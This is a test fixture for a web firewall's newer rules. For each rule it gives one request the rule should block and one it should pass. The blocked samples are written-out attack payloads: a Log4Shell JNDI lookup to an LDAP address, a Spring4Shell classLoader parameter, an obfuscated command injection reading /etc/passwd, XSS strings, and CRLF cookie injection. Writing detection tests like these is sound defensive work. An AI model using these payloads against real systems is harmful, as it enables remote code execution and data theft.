// For each rule of newer-rules.ts by its id: a request that it matches, and one that it passes.
import type { RuleSamples } from '../request-sample.cases.ts'

const FORM_POST = {
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
}
const JSON_POST = { method: 'POST', headers: { 'content-type': 'application/json' } }

export const NEWER_RULES_SAMPLES: RuleSamples = {
  '7097d16620e0f14e69518bc12eadae8c': {
    matching: { headers: { 'x-api-version': '${${lower:j}ndi:${lower:l}dap://192.0.2.66/a}' } },
    passing: { target: '/render?template=Hello+${user.name},+you+owe+${amount}' },
  },
  d85adcbb0d750bfa5537f9badf6545fe: {
    matching: {
      target: '/greeting?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
    },
    passing: { target: '/courses?class.module=4&class.name=algebra' },
  },
  '63d63b65d184c230780b0d68477b401e': {
    matching: { target: '/ping?host=127.0.0.1;c%27a%27t${IFS}/etc/passwd' },
    passing: { target: '/search?q=cat+food;+dog+food+%26+toys' },
  },
  '310a947531cb1a196442852092afcbbf': {
    matching: { target: '/go?u=%3Ca+href=%22jav%26%23x09;ascript:alert(1)%22%3Ex' },
    passing: { ...JSON_POST, body: '{"text":"What is JavaScript: a short introduction (part 1)"}' },
  },
  f3c201b7fd0d4e0fc92ebb4991396dd4: {
    matching: { target: '/search?q=%3Csvg/onload%3Dalert(1)%3E' },
    passing: { target: '/search?q=%3Csvg%3E+on+load+%3D+1' },
  },
  a57c5ae6d6a397cb151ef7055fd83fc8: {
    matching: { target: '/go?to=/%25250d%25250aSet-Cookie:%20a=1' },
    passing: { target: '/docs/set-cookie?section=location' },
  },
  e67712641e557294e10f7782b9b553e9: {
    matching: { target: `/?q=${'a'.repeat(8200)}` },
    passing: { target: `/?q=${'a'.repeat(2000)}` },
  },
  '7a6f279852a8f5194950a402553f121a': {
    matching: { ...FORM_POST, body: `a=${'x'.repeat(128 * 1024)}` },
    passing: { ...FORM_POST, body: `a=${'x'.repeat(1024)}` },
  },
}
